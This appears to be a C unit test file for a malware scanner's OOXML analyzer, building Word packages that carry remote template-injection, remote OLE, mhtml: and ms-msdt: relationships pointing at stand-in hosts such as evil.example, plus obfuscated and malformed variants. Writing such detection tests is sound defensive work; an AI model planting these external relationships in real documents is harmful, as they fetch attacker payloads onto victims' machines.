/*
 * test_ooxml.c - external relationships of OOXML packages (analyzers/an_ooxml.c): template
 * injection, remote OLE links and the other external types are reported with the target as
 * evidence; hyperlinks and local templates, as every ordinary document has, are not.
 * Packages are zipped at test time; the oletools corpus is read in place.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"

#define NS "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

static void sh(const char *cmd) { assert_int_equal(system(cmd), 0); }

static const char content_types[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package."
    "relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-"
    "officedocument.wordprocessingml.document.main+xml\"/></Types>";

/* A .docx whose word/_rels/settings.xml.rels holds 'rels' (Relationship elements). */
static fg_result *scan_docx(fg_engine *e, const char *name, const char *rels)
{
    char *xml = NULL, cmd[512];
    assert_true(asprintf(&xml,
                         "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                         "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/"
                         "2006/relationships\">%s</Relationships>",
                         rels) > 0);
    sh("rm -rf pkg && mkdir -p pkg/_rels pkg/word/_rels");
    tu_write("pkg/[Content_Types].xml", content_types);
    tu_write("pkg/_rels/.rels",
             "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/"
             "package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"" NS
             "officeDocument\" Target=\"word/document.xml\"/></Relationships>");
    tu_write("pkg/word/document.xml",
             "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/"
             "wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Quarterly report</w:t>"
             "</w:r></w:p></w:body></w:document>");
    tu_write("pkg/word/_rels/settings.xml.rels", xml);
    free(xml);
    snprintf(cmd, sizeof cmd, "rm -f '%s' && cd pkg && zip -q -X -r '../%s' . && cd ..", name,
             name);
    sh(cmd);
    size_t n;
    uint8_t *d = tu_read(name, &n);
    fg_result *r = tu_scan(e, name, d, n);
    free(d);
    return r;
}

/* The severity of the first finding 'id' anywhere in the result, or -1. */
static int severity_of(const fg_result *r, const char *id, const char **evidence)
{
    for (size_t i = 0; i < fg_result_object_count(r); i++) {
        const struct fg_object_info *o = fg_result_object(r, i);
        for (size_t j = 0; j < o->nfindings; j++) {
            if (!strcmp(o->findings[j].id, id)) {
                if (evidence)
                    *evidence = o->findings[j].evidence;
                return (int)o->findings[j].severity;
            }
        }
    }
    return -1;
}

static size_t count_prefix(const fg_result *r, const char *prefix)
{
    size_t c = 0;
    for (size_t i = 0; i < fg_result_object_count(r); i++) {
        const struct fg_object_info *o = fg_result_object(r, i);
        for (size_t j = 0; j < o->nfindings; j++)
            c += !strncmp(o->findings[j].id, prefix, strlen(prefix));
    }
    return c;
}

struct rcase {
    const char *label;
    const char *rels;
    const char *id;   /* expected finding, NULL: none of ours */
    int sev;          /* expected severity */
    const char *ev;   /* part of the evidence */
    enum fg_verdict verdict;
};

#define REL(type, target, mode)                                                            \
    "<Relationship Id=\"rId9\" Type=\"" NS type "\" Target=\"" target "\"" mode "/>"
#define EXT " TargetMode=\"External\""

static const struct rcase cases[] = {
    /* positives */
    {"template over http", REL("attachedTemplate", "http://198.51.100.7/t.dotm", EXT),
     "ooxml.external-template", FG_SEV_HIGH, "attachedTemplate -> http://198.51.100.7/t.dotm",
     FG_VERDICT_MALICIOUS},
    {"template on an IP share", REL("attachedTemplate", "\\\\198.51.100.7\\s\\t.dotm", EXT),
     "ooxml.external-template", FG_SEV_HIGH, "198.51.100.7", FG_VERDICT_MALICIOUS},
    {"template over WebDAV", REL("attachedTemplate", "file://evil.example@SSL/t.dotm", EXT),
     "ooxml.external-template", FG_SEV_HIGH, "evil.example@SSL", FG_VERDICT_MALICIOUS},
    {"template on a named share", REL("attachedTemplate", "file:///\\\\fs01\\tpl\\a.dotx", EXT),
     "ooxml.external-template", FG_SEV_MEDIUM, "fs01", FG_VERDICT_SUSPICIOUS},
    {"remote OLE object", REL("oleObject", "https://x.example/doc.doc", EXT),
     "ooxml.external-oleobject", FG_SEV_HIGH, "oleObject -> https://x.example/doc.doc",
     FG_VERDICT_MALICIOUS},
    {"OLE object through mhtml:", REL("oleObject", "mhtml:http://x.example/a.html!x-usc:b", EXT),
     "ooxml.external-oleobject", FG_SEV_HIGH, "mhtml:", FG_VERDICT_MALICIOUS},
    {"remote frame", REL("frame", "https://x.example/f.html", EXT),
     "ooxml.external-relationship", FG_SEV_MEDIUM, "frame -> https://x.example/f.html",
     FG_VERDICT_SUSPICIOUS},
    {"subdocument on a share", REL("subDocument", "\\\\fs01\\docs\\part.docx", EXT),
     "ooxml.external-relationship", FG_SEV_MEDIUM, "subDocument", FG_VERDICT_SUSPICIOUS},
    {"remote external workbook", REL("externalLinkPath", "https://x.example/b.xlsx", EXT),
     "ooxml.external-relationship", FG_SEV_MEDIUM, "externalLinkPath", FG_VERDICT_SUSPICIOUS},
    {"hyperlink to ms-msdt", REL("hyperlink", "ms-msdt:/id PCWDiagnostic", EXT),
     "ooxml.external-relationship", FG_SEV_MEDIUM, "ms-msdt:", FG_VERDICT_SUSPICIOUS},
    /* what attackers do to the markup: quotes, prefixes, entities, order of attributes */
    {"obfuscated markup",
     "<r:Relationship TargetMode = 'External' Id='x' Target='&#x68;ttp://a.example/t.dotm' "
     "Type='" NS "attachedTemplate'></r:Relationship>",
     "ooxml.external-template", FG_SEV_HIGH, "http://a.example/t.dotm", FG_VERDICT_MALICIOUS},
    /* negatives: what ordinary documents hold */
    {"web and mail hyperlinks",
     REL("hyperlink", "https://www.debian.org/", EXT) REL("hyperlink", "mailto:a@example.org", EXT)
         REL("hyperlink", "ftp://ftp.example.org/x", EXT) REL("hyperlink", "../other.docx", EXT),
     NULL, 0, NULL, FG_VERDICT_CLEAN},
    {"internal parts", REL("styles", "styles.xml", "") REL("image", "media/image1.png", ""),
     NULL, 0, NULL, FG_VERDICT_CLEAN},
    {"no TargetMode=External", REL("oleObject", "http://x/y", ""),
     NULL, 0, NULL, FG_VERDICT_CLEAN},
    {"local template", REL("attachedTemplate", "file:///C:\\Users\\a\\Templates\\Letter.dotx", EXT),
     "ooxml.external-template", FG_SEV_LOW, "Letter.dotx", FG_VERDICT_CLEAN},
    {"local OLE link", REL("oleObject", "file:///C:\\data\\budget.xlsx", EXT),
     "ooxml.external-oleobject", FG_SEV_LOW, "budget.xlsx", FG_VERDICT_CLEAN},
    {"local external workbook", REL("externalLinkPath", "Book2.xlsx", EXT),
     "ooxml.external-relationship", FG_SEV_INFO, "Book2.xlsx", FG_VERDICT_CLEAN},
    {"relationship inside a comment",
     "<!-- " REL("attachedTemplate", "http://a.example/t.dotm", EXT) " -->", NULL, 0, NULL,
     FG_VERDICT_CLEAN},
};

static void test_relationships(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const struct rcase *c = &cases[i];
        fg_result *r = scan_docx(e, "t.docx", c->rels);
        const char *ev = NULL;
        int sev = c->id ? severity_of(r, c->id, &ev) : -1;
        int ok = fg_result_verdict(r) == c->verdict &&
                 (c->id ? sev == c->sev && ev && strstr(ev, c->ev) &&
                              tu_object_has(r, "t.docx > word/_rels/settings.xml.rels", c->id)
                        : count_prefix(r, "ooxml.") == 0);
        if (!ok) {
            print_message("case '%s' failed\n", c->label);
            tu_dump(r);
        }
        assert_true(ok);
        fg_result_free(r);
    }
    fg_engine_free(e);
}

/* Flat OPC ("Word XML document") and a UTF-16 part: the same relationships, other wrapping. */
static void test_flat_opc_and_utf16(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    const char *flat =
        "<?xml version=\"1.0\" standalone=\"yes\"?>\n<?mso-application progid=\"Word.Document\"?>"
        "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
        "<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData><Relationships>"
        REL("attachedTemplate", "https://t.example/x.dotm", EXT)
        "</Relationships></pkg:xmlData></pkg:part></pkg:package>";
    fg_result *r = tu_scan(e, "flat.xml", flat, strlen(flat));
    assert_true(tu_object_has(r, "flat.xml", "ooxml.external-template"));
    assert_int_equal(fg_result_verdict(r), FG_VERDICT_MALICIOUS);
    fg_result_free(r);

    /* The same Flat OPC file without the relationship is an ordinary document. */
    const char *plain = "<?xml version=\"1.0\"?><pkg:package xmlns:pkg=\"http://schemas."
                        "microsoft.com/office/2006/xmlPackage\"><Relationships>"
                        REL("hyperlink", "https://www.example.org/", EXT)
                        "</Relationships></pkg:package>";
    r = tu_scan(e, "plain.xml", plain, strlen(plain));
    assert_int_equal(fg_result_verdict(r), FG_VERDICT_CLEAN);
    assert_int_equal(count_prefix(r, "ooxml."), 0);
    fg_result_free(r);

    /* UTF-16LE with a byte-order mark, as Office also reads. */
    const char *rel = "<Relationships>" REL("oleObject", "http://w.example/o.doc", EXT)
        "</Relationships>";
    size_t n = strlen(rel);
    uint8_t *w = malloc(2 + 2 * n);
    assert_non_null(w);
    w[0] = 0xFF;
    w[1] = 0xFE;
    for (size_t i = 0; i < n; i++) {
        w[2 + 2 * i] = (uint8_t)rel[i];
        w[3 + 2 * i] = 0;
    }
    r = tu_scan(e, "word/_rels/document.xml.rels", w, 2 + 2 * n);
    assert_true(tu_has_finding(r, "ooxml.external-oleobject"));
    fg_result_free(r);
    free(w);
    fg_engine_free(e);
}

/* Thousands of external relationships: a bounded number of findings; truncated and
 * malformed markup: no crash, no finding out of nothing. */
static void test_hostile(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    struct tu_bytes b = {0};
    const char *one = REL("frame", "https://x.example/f.html", EXT);
    tu_bytes_put(&b, "<Relationships>", 15);
    for (int i = 0; i < 5000; i++)
        tu_bytes_put(&b, one, strlen(one));
    tu_bytes_put(&b, "</Relationships>", 16);
    fg_result *r = tu_scan(e, "x.xml.rels", b.p, b.len);
    size_t c = count_prefix(r, "ooxml.");
    assert_true(c > 0 && c <= 17);
    fg_result_free(r);
    /* Every prefix of the part, and a few corruptions. */
    for (size_t cut = 0; cut < b.len && cut < 400; cut += 7) {
        r = tu_scan(e, "x.xml.rels", b.p, cut);
        fg_result_free(r);
    }
    static const char *const bad[] = {
        "<Relationship", "<Relationship Target=\"http://a", "<Relationship TargetMode=External",
        "<<<<>>>>", "<Relationship Type='" NS "oleObject' TargetMode='External' Target='&#99999999;'/>",
        "<Relationship Type='" NS "oleObject' TargetMode='External' Target='&#x;&amp'/>",
        "<!--", "<![CDATA[", "<Relationship =\"x\" TargetMode=\"External\"/>"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        r = tu_scan(e, "y.rels", bad[i], strlen(bad[i]));
        fg_result_free(r);
    }
    free(b.p);
    fg_engine_free(e);
}

/* Real Office files: the remote OLE links in oleobj/external_link are found in every format;
 * the harmless documents stay clean. */
static void test_corpus(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    static const char *const linked[] = {"docx", "docm", "dotx", "dotm", "pptx", "pptm", "potx",
                                         "potm", "ppsx", "ppsm", "xlsx", "xlsm", "xlsb"};
    for (size_t i = 0; i < sizeof linked / sizeof linked[0]; i++) {
        char rel[256];
        snprintf(rel, sizeof rel, "oleobj/external_link/sample_with_external_link_to_doc.%s",
                 linked[i]);
        size_t n;
        uint8_t *d = tu_oletools(rel, &n);
        if (!d)
            fail_msg("corpus file missing: %s", rel);
        fg_result *r = tu_scan(e, rel, d, n);
        const char *ev = NULL;
        int sev = severity_of(r, "ooxml.external-oleobject", &ev);
        if (sev != FG_SEV_HIGH || !strstr(ev, "https://raw.githubusercontent.com/"))
            tu_dump(r);
        assert_int_equal(sev, FG_SEV_HIGH);
        assert_int_equal(fg_result_verdict(r), FG_VERDICT_MALICIOUS);
        fg_result_free(r);
        free(d);
    }
    static const char *const clean[] = {"msodde/harmless-clean.docx", "msodde/harmless-clean.docm",
                                        "msodde/harmless-clean.xml",
                                        "oleobj/embedded-simple-2007.docx",
                                        "oleobj/embedded-simple-2007.xlsx",
                                        "oleobj/embedded-simple-2007.pptx"};
    for (size_t i = 0; i < sizeof clean / sizeof clean[0]; i++) {
        size_t n;
        uint8_t *d = tu_oletools(clean[i], &n);
        if (!d)
            fail_msg("corpus file missing: %s", clean[i]);
        fg_result *r = tu_scan(e, clean[i], d, n);
        if (count_prefix(r, "ooxml.") || fg_result_verdict(r) != FG_VERDICT_CLEAN)
            tu_dump(r);
        assert_int_equal(count_prefix(r, "ooxml."), 0);
        assert_int_equal(fg_result_verdict(r), FG_VERDICT_CLEAN);
        fg_result_free(r);
        free(d);
    }
    fg_engine_free(e);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_relationships, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_flat_opc_and_utf16, tu_tmpdir_setup,
                                        tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_hostile, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_corpus, tu_tmpdir_setup, tu_tmpdir_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
